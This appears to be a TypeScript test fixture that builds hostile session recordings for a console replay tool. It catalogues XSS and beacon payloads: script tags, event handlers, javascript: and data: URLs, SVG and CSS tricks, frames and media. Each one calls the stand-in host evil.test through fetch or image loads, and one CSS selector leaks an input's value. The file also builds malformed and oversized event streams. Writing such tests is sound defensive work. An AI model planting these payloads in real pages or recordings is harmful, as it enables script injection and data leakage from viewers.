// What a hostile console can put into a recording. Every one tries to reach SINK when it runs, loads or leads anywhere.
import { addNode, type Event, element, meta, page, step, text, whole } from './events.ts';

export const SINK = 'http://evil.test';
const RUN = `fetch('${SINK}/ran');new Image().src='${SINK}/ran'`;
let n = 0;
const url = (name: string): string => {
  n += 1;
  return `${SINK}/${name}?${n}`;
};
const css = (content: string) => element('style', {}, [text(content, { isStyle: true })]);

/** name -> nodes for head and body */
export const HOSTILE: { readonly [name: string]: () => { head?: object[]; body?: object[] } } = {
  scripts: () => ({
    head: [element('script', {}, [text(RUN)]), element('script', { src: url('script'), type: 'module' })],
    body: [element('script', { type: 'speculationrules' }, [text(`{"prefetch":[{"urls":["${url('rules')}"]}]}`)])],
  }),
  handlers: () => ({
    body: [
      element('img', { src: 'x', onerror: RUN }),
      element('svg', { onload: RUN }, [], { isSVG: true }),
      element('details', { open: '', ontoggle: RUN }, [element('summary', {}, [text('x')])]),
      element('input', { autofocus: '', onfocus: RUN }),
      element('div', { style: 'animation:x 1s', onanimationstart: RUN, ONCLICK: RUN }),
      element('body', { onload: RUN, onpageshow: RUN }),
    ],
  }),
  'script addresses': () => ({
    body: [
      element('a', { href: `javascript:${RUN}` }, [text('here')]),
      element('iframe', { src: `javascript:${RUN}` }),
      element('form', { action: `javascript:${RUN}` }, [element('button', { formaction: `javascript:${RUN}` })]),
      element('object', { data: `javascript:${RUN}` }),
      element('a', { href: `data:text/html,<script>${RUN}</script>` }, [text('here')]),
    ],
  }),
  svg: () => ({
    body: [
      element(
        'svg',
        { width: '100', height: '100' },
        [
          element('script', {}, [text(RUN)], { isSVG: true }),
          element('foreignObject', {}, [element('iframe', { srcdoc: `<script>${RUN}</script>` })], { isSVG: true }),
          element('use', { 'xlink:href': url('use#x'), href: url('use#y') }, [], { isSVG: true }),
          element('image', { href: url('svgimage'), 'xlink:href': url('svgimage') }, [], { isSVG: true }),
          element('feImage', { href: url('feimage') }, [], { isSVG: true }),
          element(
            'a',
            { href: url('svga') },
            [element('animate', { attributeName: 'href', to: `javascript:${RUN}`, begin: '0s' }, [], { isSVG: true })],
            { isSVG: true },
          ),
          element('set', { attributeName: 'onload', to: RUN }, [], { isSVG: true }),
        ],
        { isSVG: true },
      ),
      element('img', {
        src: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="${url('insvg')}"/></svg>`,
      }),
    ],
  }),
  'head of the page': () => ({
    head: [
      element('meta', { 'http-equiv': 'refresh', content: `0;url=${url('refresh')}` }),
      element('meta', { 'http-equiv': 'Content-Security-Policy', content: 'default-src *' }),
      element('base', { href: `${SINK}/`, target: '_top' }),
      ...[
        'preload',
        'prefetch',
        'preconnect',
        'dns-prefetch',
        'modulepreload',
        'prerender',
        'stylesheet',
        'icon',
        'manifest',
        'import',
      ].map((rel) => element('link', { rel, href: url(rel), as: 'script', crossorigin: '' })),
      element('link', {
        rel: 'stylesheet',
        href: url('captured'),
        _cssText: `@import url(${url('captured-import')});p{color:red}`,
      }),
    ],
  }),
  frames: () => ({
    body: [
      element('iframe', { src: url('iframe') }),
      element('iframe', { srcdoc: `<script>${RUN}</script><img src=${url('srcdoc')}>`, sandbox: 'allow-scripts' }),
      element('iframe', { rr_src: url('rrsrc') }),
      ...['object', 'embed', 'applet', 'portal', 'fencedframe', 'frame', 'webview'].map((tag) =>
        element(tag, { src: url(tag), data: url(tag), code: url(tag) }),
      ),
    ],
  }),
  styles: () => ({
    head: [
      css(`@import url(${url('import')}); @import "${url('import')}";`),
      css(`@font-face{font-family:x;src:url(${url('font')})} body{font-family:x;background:url(${url('background')})}`),
      css(`input[value^="s"]{background:url(${url('attribute')})} a:visited{background:url(${url('visited')})}`),
      css(
        `*::before{content:url(${url('content')})} p{cursor:url(${url('cursor')}),auto;mask:url(${url('mask')})} ul{list-style:url(${url('list')})}`,
      ),
      css(
        `@namespace url(${url('namespace')}); div{background:image-set("${url('set')}" 1x);behavior:url(${url('behavior')})}`,
      ),
    ],
    body: [
      element('input', { value: 'secret', type: 'text' }),
      element('p', { style: `background:url(${url('inline')})` }, [text('x')]),
      element('ul', {}, [element('li', {}, [text('x')])]),
    ],
  }),
  media: () => ({
    body: [
      element('img', { src: url('img'), srcset: `${url('srcset')} 2x`, loading: 'eager' }),
      element('picture', {}, [element('source', { srcset: url('picture') }), element('img', { src: url('fallback') })]),
      element('video', { src: url('video'), poster: url('poster'), autoplay: '', preload: 'auto' }, [
        element('track', { src: url('track'), default: '' }),
      ]),
      element('audio', { src: url('audio'), autoplay: '' }, [element('source', { src: url('source') })]),
      element('input', { type: 'image', src: url('inputimage') }),
      element('table', { background: url('tablebackground') }),
      element('canvas', { rr_dataURL: url('canvas') }),
      element('img', { rr_dataURL: url('rrimg'), rr_src: url('rrimg') }),
    ],
  }),
  forms: () => ({
    body: [
      element('form', { action: url('form'), method: 'post', target: '_top' }, [
        element('input', { name: 'a', value: 'b', type: 'submit', formaction: url('formaction') }),
      ]),
      element('a', { href: url('link'), ping: url('ping'), target: '_top', download: 'x' }, [text('link')]),
    ],
  }),
};

export const recordingOf = (at: number, { head = [], body = [] }: { head?: object[]; body?: object[] }): Event[] => {
  const anchor = element('div', { id: 'late' }, [text('Something here')]);
  const node = page(
    [element('p', {}, [text('A page of a console')]), anchor, ...(body as (typeof anchor)[])],
    head as (typeof anchor)[],
  );
  // The same once more as later steps of the page, and as changed attributes.
  const again = [...(body as (typeof anchor)[]), ...(head as (typeof anchor)[])].map((one, index) =>
    addNode(at + 200 + index, Number(anchor.id), one),
  );
  const attributes = {
    src: url('changed'),
    href: url('changed'),
    srcset: url('changed'),
    onclick: RUN,
    onload: RUN,
    style: { background: `url(${url('changedstyle')})` },
    srcdoc: RUN,
  };
  return [
    meta(at),
    whole(at + 1, node),
    ...again,
    step(at + 400, { source: 0, texts: [], adds: [], removes: [], attributes: [{ id: anchor.id, attributes }] }),
    step(at + 401, { source: 8, id: anchor.id, adds: [{ rule: `p{background:url(${url('rule')})}`, index: 0 }] }),
    step(at + 402, {
      source: 15,
      id: 1,
      styleIds: [1],
      styles: [{ styleId: 1, rules: [{ rule: `p{background:url(${url('adopted')})}`, index: 0 }] }],
    }),
    step(at + 403, {
      source: 9,
      id: anchor.id,
      type: 0,
      commands: [{ property: 'drawImage', args: [{ rr_type: 'ImageElement', src: url('canvascommand') }] }],
    }),
    step(at + 404, { source: 10, family: 'x', fontSource: `url(${url('fontevent')})`, buffer: false }),
    step(at + 405, { source: 16, id: anchor.id, define: { name: 'x-evil' } }),
    step(at + 406, { source: 7, id: anchor.id, type: 0, currentTime: 1 }),
    { type: 6, data: { plugin: 'rrweb/console@1', payload: {} }, timestamp: at + 407 },
    step(at + 900, { source: 2, type: 2, id: anchor.id, x: 5, y: 5 }),
  ];
};

const broken = (events: unknown[]): Event[] => events as Event[];
/** Streams that are no recording. */
export const BROKEN: { readonly [name: string]: (at: number) => Event[] } = {
  'no whole look': (at) => [meta(at), step(at + 1, { source: 2, type: 2, id: 9, x: 1, y: 1 })],
  'steps about nothing': (at) => [
    meta(at),
    whole(at + 1, page([text('x')])),
    ...Array.from({ length: 40 }, (_, source) =>
      step(at + 2 + source, {
        source,
        id: 99_999,
        texts: [{ id: 5 }],
        removes: [{ id: 7, parentId: 8 }],
        adds: [{ parentId: 1, nextId: 12, node: null }],
        attributes: [{ id: 3, attributes: null }],
      }),
    ),
  ],
  'members of wrong types': (at) =>
    broken([
      meta(at),
      {
        type: 2,
        data: {
          node: {
            type: 0,
            id: 1,
            childNodes: [
              null,
              5,
              'x',
              { type: 2, id: 'a' },
              { type: 2, id: 3, tagName: 7, attributes: [1], childNodes: {} },
            ],
          },
          initialOffset: null,
        },
        timestamp: at + 1,
      },
      { type: 3, data: null, timestamp: at + 2 },
      { type: 3, data: { source: 0, adds: 'x', removes: 5, texts: null }, timestamp: at + 3 },
      { type: 'x', data: {}, timestamp: at + 4 },
      { type: 4, data: { width: 1e12, height: -4 }, timestamp: at + 5 },
      { type: 3, data: { source: 3, id: {}, x: 'y' }, timestamp: at + 6 },
    ]),
  'a node in itself': (at) => {
    const inner = element('div', {}, []);
    return [
      meta(at),
      whole(at + 1, page([inner])),
      addNode(at + 2, Number(inner.id), { ...inner, childNodes: [inner] }),
    ];
  },
};

export const deep = (at: number, depth: number): Event[] => {
  let node = element('div', {}, [text('deep')]);
  for (let level = 0; level < depth; level += 1) node = element('div', {}, [node]);
  return [meta(at), whole(at + 1, page([node]))];
};
export const huge = (at: number, nodes: number): Event[] => [
  meta(at),
  whole(at + 1, page(Array.from({ length: nodes / 2 }, () => element('i', {}, [text('x')])))),
];
